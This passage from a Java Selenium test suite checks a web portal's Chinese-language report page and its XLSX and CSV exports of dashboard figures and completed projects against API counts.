    assertThat(projects.size() - 1)
        .isEqualTo((int) total("api/v1/projects?limit=1", http().tokenFor("council")));

    browser.findElement(By.id("langForm:zh")).click();
    Browser.language(browser, "zh-CN");
    Browser.until(browser, By.id("report:generate"));
    assertThat(browser.findElement(By.tagName("h1")).getText()).isEqualTo("报告");
    assertThat(browser.findElement(By.id("annual-heading")).getText()).isEqualTo("理事会年度报告");
    Browser.screenshot(browser, "57-reports-zh");
    browser.findElement(By.id("langForm:en")).click();
    Browser.language(browser, "en");
  }

  @Test
  void theDashboardAndTheProjectListOfferTheirFiguresAsFiles() throws Exception {
    portal.signInAs("admin");
    browser.get(portal.url("app/dashboard.xhtml"));
    Browser.until(browser, By.id("dashboardExport:xlsx"));
    Browser.screenshot(browser, "58-dashboard-export");
    browser.findElement(By.id("dashboardExport:xlsx")).click();
    byte[] kpis = downloaded("kpis.xlsx");
    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(kpis))) {
      assertThat(workbook.getSheetAt(0).getLastRowNum())
          .isEqualTo(kpis(http().tokenFor("admin")).size());
    }

    browser.get(portal.url("app/records/projects.xhtml"));
    Browser.until(browser, By.id("projectTable"));
    new Select(browser.findElement(By.id("status"))).selectByValue("COMPLETED");
    Browser.clickToNewPage(browser, By.id("search"));
    Browser.until(browser, By.id("projectTable"));
    browser.findElement(By.id("exportCsv")).click();
    List<CSVRecord> rows = Exports.csv(downloaded("projects.csv"));
    assertThat(rows.size() - 1)
        .isEqualTo(
            (int) total("api/v1/projects?status=COMPLETED&limit=1", http().tokenFor("admin")));
    assertThat(rows.stream().skip(1))
        .allSatisfy(c -> assertThat(Exports.named(rows, c).get("status")).isEqualTo("COMPLETED"));
  }
}
